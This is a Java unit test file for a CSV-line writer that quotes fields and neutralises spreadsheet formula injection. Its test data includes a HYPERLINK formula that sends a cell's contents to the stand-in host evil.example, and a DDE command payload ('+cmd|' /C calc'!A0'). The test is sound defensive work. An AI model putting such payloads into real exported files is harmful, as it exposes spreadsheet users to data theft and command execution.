package com.gpudash.query.audit;

import java.util.Arrays;
import java.util.List;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;

class CsvLinesTest {

    @Test
    void plainFieldsAreWrittenAsTheyAreAndNullsAreEmpty() {
        assertThat(CsvLines.line(Arrays.asList("a", null, "", "b c"))).isEqualTo("a,,,b c\r\n");
    }

    @Test
    void commasQuotesAndLineBreaksAreQuotedWithQuotesDoubled() {
        assertThat(CsvLines.line(List.of("x,y", "say \"hi\"", "two\nlines", "cr\rhere", "plain")))
                .isEqualTo("\"x,y\",\"say \"\"hi\"\"\",\"two\nlines\",\"cr\rhere\",plain\r\n");
    }

    @ParameterizedTest
    @ValueSource(strings = {"=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\tindented", "\rreturned", "'quoted"})
    void aValueASpreadsheetCouldReadAsAFormulaGetsALeadingQuote(String value) {
        assertThat(CsvLines.inert(value)).isEqualTo("'" + value);
    }

    /** OWASP lists {@code -}: a negative number is neutralised like the {@code -2+3+cmd|...} attack. */
    @Test
    void aNegativeNumberIsNeutralisedToo() {
        assertThat(CsvLines.inert("-5")).isEqualTo("'-5");
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "alice", "a=1", "1+1", "x-y", "user@example.org", " =1", "2026-12-04T04:00:00Z"})
    void aValueThatDoesNotBeginWithOneOfThemIsLeftAsItIs(String value) {
        assertThat(CsvLines.inert(value)).isEqualTo(value);
    }

    @Test
    void everyFieldOfALineIsNeutralisedAndThenQuotedAsNeeded() {
        assertThat(CsvLines.line(List.of("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
                "+cmd|' /C calc'!A0", "@SUM(1,1)", "\rx", "safe")))
                .isEqualTo("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\","
                        + "'+cmd|' /C calc'!A0,\"'@SUM(1,1)\",\"'\rx\",safe\r\n");
    }
}
